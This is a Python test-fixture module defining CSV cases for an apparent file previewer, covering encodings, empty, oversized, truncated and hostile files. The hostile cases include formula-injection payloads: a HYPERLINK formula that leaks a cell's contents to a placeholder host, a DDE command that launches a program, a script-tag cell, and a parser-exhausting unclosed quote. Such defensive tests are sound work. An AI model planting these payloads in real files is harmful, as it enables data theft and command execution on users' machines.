"""Comma-separated values."""

from __future__ import annotations

from tests.files.case import ALERT, HOST, Case

FORMULAS = f"""name,note
=HYPERLINK("https://{HOST}/?"&A1),=cmd|' /C calc'!A0
@SUM(1+1),+1+1
-2+3,<script>{ALERT}</script>
"""


def rows(count: int, columns: int = 3) -> bytes:
    header = ",".join(f"column {n}" for n in range(columns))
    return "\n".join([header, *(",".join([f"{row}"] * columns) for row in range(count))]).encode()


CASES = (
    Case(
        "depths.csv",
        "good",
        "commas, and a line end inside quotes",
        lambda: b'at,note\nquay,"six metres,\nmeasured twice"\n',
        "table",
        "six metres, measured twice",
    ),
    Case(
        "excel.csv",
        "good",
        "semicolons, Windows-1252, CR LF",
        lambda: "Ort;Größe\r\nKöln;6,1\r\nMünchen;7\r\n".encode("cp1252"),
        "table",
        "cells between semicolons · read as Windows-1252",
    ),
    Case(
        "depths.tsv",
        "good",
        "tabs, UTF-16",
        lambda: "at\tdepth, m\nquay\t6\n".encode("utf-16"),
        "table",
        "cells between tabs · read as UTF-16",
    ),
    Case(
        "header.csv",
        "empty",
        "a header and no row",
        lambda: b"at,depth\n",
        "table",
        "0 rows under the header",
    ),
    Case(
        "blank.csv",
        "empty",
        "only line ends",
        lambda: b"\n\n\n",
        "table",
        "The file is empty: it has no rows.",
    ),
    Case("long.csv", "huge", "300,000 rows, 6 MB", lambda: rows(300_000), "table", "Page 1 of 3,000"),
    Case("wide.csv", "huge", "5,000 columns", lambda: rows(20, 5_000), "table", "Columns A to CV"),
    Case("cut.csv", "truncated", "ends inside quotes", lambda: b'at,note\nquay,"six met', "table", "six met"),
    Case(
        "ragged.csv",
        "truncated",
        "rows of different lengths",
        lambda: b"a,b,c\n1\n1,2,3,4,5\n",
        "table",
        "1 2 3 4 5",
    ),
    Case(
        "nul.csv",
        "mislabelled",
        "bytes that no text has",
        lambda: b"a,b\n\x00,\x01\n",
        "none",
        "By its name this file is a table, but its content is not.",
    ),
    Case(
        "quote.csv",
        "hostile",
        "a quotation mark that swallows 2 MB",
        lambda: b'a,b\n1,"open\n' + b"1,2\n" * 500_000,
        "table",
        "a quotation mark opens and never closes",
    ),
    Case(
        "formulas.csv",
        "hostile",
        "cells that a spreadsheet would run",
        FORMULAS.encode,
        "table",
        "=cmd|' /C calc'!A0",
    ),
)
